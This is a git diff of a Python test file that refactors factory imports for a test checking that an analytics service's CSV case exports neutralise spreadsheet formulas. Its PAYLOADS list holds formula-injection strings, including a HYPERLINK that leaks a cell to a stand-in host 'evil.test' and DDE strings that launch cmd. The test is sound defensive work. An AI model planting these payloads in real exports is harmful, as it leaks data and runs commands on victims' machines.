@@ -12,7 +12,8 @@ from sqlmodel import Session
 
 from service.analytics import service as svc
 from service.analytics.suppression import Published
-from tests.analytics.factories import T0, make_report, place
+from tests.analytics.factories import T0
+from tests.support.factories import make_report, place
 from service.analytics import queries as q
 
 PAYLOADS = ['=HYPERLINK("http://evil.test/?leak="&A1,"click me")', "+1+cmd|' /C calc'!A0", "-2+3+cmd|' /C calc'!A0",
@@ -35,7 +36,7 @@ def _safe(value: str) -> bool:
 
 @pytest.mark.parametrize("payload", PAYLOADS)
 def test_case_exports_neutralise_formulas(session: Session, places: None, settings, payload: str) -> None:  # type: ignore[no-untyped-def]
-    make_report(session, narrative_masked=payload, place_id=place(session, "KH-12").id, created_at=T0)
+    make_report(session, narrative_masked=payload, place_id=place(session, "KH-12").id, at=T0, category="service_quality")
     session.commit()
     cells = _csv_cells(svc.export_cases(session, filters=Q, actor="s@x", role="supervisor"))
     assert all(_safe(c) for c in cells), cells
